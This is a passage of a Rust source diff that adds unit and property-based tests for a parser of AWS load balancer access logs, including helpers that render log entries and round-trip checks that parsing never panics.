+        assert_eq!(
+            (record.target_list, record.target_status_list),
+            (None, None)
+        );
+        let line = with(
+            r#""10.0.0.1:80" "200""#,
+            r#""10.0.0.1:80 10.0.0.2:80" "200 503""#,
+        );
+        let record = parse_line(&line).unwrap().to_record();
+        assert_eq!(
+            record.target_list.as_deref(),
+            Some("10.0.0.1:80 10.0.0.2:80")
+        );
+        assert_eq!(record.target_status_list.as_deref(), Some("200 503"));
+    }
+
+    /// Writes a quoted field the way ALB does: `"`, `\`, controls and non-ASCII as `\xNN`.
+    fn quote(value: Option<&str>) -> String {
+        let Some(value) = value else {
+            return "\"-\"".into();
+        };
+        let mut out = String::from("\"");
+        for b in value.bytes() {
+            if b == b'"' || b == b'\\' || !(0x20..0x7f).contains(&b) {
+                out.push_str(&format!("\\x{b:02x}"));
+            } else {
+                out.push(b as char);
+            }
+        }
+        out.push('"');
+        out
+    }
+
+    fn bare<T: ToString>(value: Option<T>) -> String {
+        value.map_or_else(|| "-".into(), |v| v.to_string())
+    }
+
+    fn time(us: i64) -> String {
+        let ts = jiff::Timestamp::from_microsecond(us).unwrap();
+        ts.strftime("%Y-%m-%dT%H:%M:%S%.6fZ").to_string()
+    }
+
+    fn render(e: &AlbEntry<'_>) -> String {
+        let ep = |e: Option<Endpoint<'_>>| e.map_or("-".into(), |e| format!("{}:{}", e.ip, e.port));
+        let secs = |s: Option<f64>| s.map_or("-1".into(), |s| format!("{s:.3}"));
+        let request = match (&e.request.method, &e.request.url, &e.request.protocol) {
+            (Some(m), Some(u), Some(p)) => format!("{m} {u} {p}"),
+            _ => e.request.raw.as_deref().unwrap_or("-").to_string(),
+        };
+        let mut fields = vec![
+            e.kind.to_string(),
+            time(e.time),
+            e.elb.to_string(),
+            ep(e.client),
+            ep(e.target),
+            secs(e.request_processing_time),
+            secs(e.target_processing_time),
+            secs(e.response_processing_time),
+            bare(e.elb_status_code),
+            bare(e.target_status_code),
+            bare(e.received_bytes),
+            bare(e.sent_bytes),
+            quote(Some(&request)),
+            quote(e.user_agent.as_deref()),
+            bare(e.ssl_cipher),
+            bare(e.ssl_protocol),
+            bare(e.target_group_arn),
+            quote(e.trace_id.as_deref()),
+            quote(e.domain_name.as_deref()),
+            quote(e.chosen_cert_arn.as_deref()),
+            bare(e.matched_rule_priority),
+            e.request_creation_time.map_or("-".into(), time),
+            quote(e.actions_executed.as_deref()),
+            quote(e.redirect_url.as_deref()),
+            quote(e.error_reason.as_deref()),
+            quote(e.target_port_list.as_deref()),
+            quote(e.target_status_code_list.as_deref()),
+            quote(e.classification.as_deref()),
+            quote(e.classification_reason.as_deref()),
+            bare(e.conn_trace_id),
+            quote(e.transformed_host.as_deref()),
+            quote(e.transformed_uri.as_deref()),
+            quote(e.request_transform_status.as_deref()),
+        ];
+        fields.extend(e.extra.iter().map(|x| quote(Some(x))));
+        fields.join(" ")
+    }
+
+    /// A value that is not `-`/empty and has no space (for unquoted fields).
+    fn token() -> impl Strategy<Value = String> {
+        "[A-Za-z0-9_./:=-]{2,20}"
+    }
+
+    /// Any text for a quoted field, except the `-` that means absent.
+    fn text() -> impl Strategy<Value = Option<String>> {
+        prop::option::of("\\PC{1,30}".prop_filter("dash means absent", |s| s != "-"))
+    }
+
+    fn endpoint() -> impl Strategy<Value = Option<(String, u16)>> {
+        prop::option::of((
+            prop_oneof![
+                "[0-9]{1,3}(\\.[0-9]{1,3}){3}",
+                "[0-9a-f]{1,4}(:[0-9a-f]{0,4}){2,7}"
+            ],
+            any::<u16>(),
+        ))
+    }
+
+    fn secs() -> impl Strategy<Value = Option<f64>> {
+        prop::option::of((0u32..100_000).prop_map(|ms| f64::from(ms) / 1000.0))
+    }
+
+    fn status() -> impl Strategy<Value = Option<u16>> {
+        prop::option::of(100u16..600)
+    }
+
+    fn us() -> impl Strategy<Value = i64> {
+        0i64..4_102_444_800_000_000
+    }
+
+    proptest! {
+        #[test]
+        fn never_panics(line in ".*") {
+            let _ = parse_line(&line);
+            let _ = parse_record(&line);
+            let _ = is_control_line(&line);
+        }
+
+        #[test]
+        fn never_panics_on_near_valid_lines(cut in 0usize..400, junk in "[ \"\\\\x0-9a-f-]{0,12}") {
+            let mut line = HTTP.to_string();
+            let at = cut.min(line.len());
+            line.insert_str(at, &junk);
+            let _ = parse_line(&line).map(|e| e.to_record());
+        }
+
+        #[test]
+        fn render_then_parse_gives_back_the_entry(
+            kind in "(http|https|h2|grpcs|ws|wss)",
+            times in (us(), prop::option::of(us())),
+            elb in token(),
+            ends in (endpoint(), endpoint()),
+            timings in (secs(), secs(), secs()),
+            statuses in (status(), status()),
+            bytes in (prop::option::of(any::<u64>()), prop::option::of(any::<u64>())),
+            request in ("[A-Z]{3,7}", "[!-~]{1,20}( [!-~]{1,10})?", "HTTP/[12]\\.[01]"),
+            texts in prop::collection::vec(text(), 14),
+            tokens in prop::collection::vec(prop::option::of(token()), 4),
+            rule in prop::option::of(-1i32..50_000),
+            extra in prop::collection::vec("\\PC{0,10}", 0..3),
+        ) {
+            let client = ends.0.as_ref().map(|(ip, port)| Endpoint { ip, port: *port });
+            let target = ends.1.as_ref().map(|(ip, port)| Endpoint { ip, port: *port });
+            let t = |i: usize| texts[i].as_deref().map(Cow::Borrowed);
+            let entry = AlbEntry {
+                kind: &kind,
+                time: times.0,
+                elb: &elb,
+                client,
+                target,
+                request_processing_time: timings.0,
+                target_processing_time: timings.1,
+                response_processing_time: timings.2,
+                elb_status_code: statuses.0,
+                target_status_code: statuses.1,
+                received_bytes: bytes.0,
+                sent_bytes: bytes.1,
+                request: Request {
+                    method: Some(&request.0),
+                    url: Some(Cow::Borrowed(&request.1)),
+                    protocol: Some(&request.2),
+                    raw: None,
+                },
+                user_agent: t(0),
+                ssl_cipher: tokens[0].as_deref(),
+                ssl_protocol: tokens[1].as_deref(),
+                target_group_arn: tokens[2].as_deref(),
+                trace_id: t(1),
+                domain_name: t(2),
+                chosen_cert_arn: t(3),
+                matched_rule_priority: rule,
+                request_creation_time: times.1,
+                actions_executed: t(4),
+                redirect_url: t(5),
+                error_reason: t(6),
+                target_port_list: t(7),
+                target_status_code_list: t(8),
+                classification: t(9),
+                classification_reason: t(10),
+                conn_trace_id: tokens[3].as_deref(),
+                transformed_host: t(11),
+                transformed_uri: t(12),
+                request_transform_status: t(13),
+                extra: extra.iter().map(|x| Cow::Borrowed(x.as_str())).collect(),
+            };
+            let line = render(&entry);
+            prop_assert_eq!(parse_line(&line), Ok(entry), "{}", line);
+        }
+    }
+}
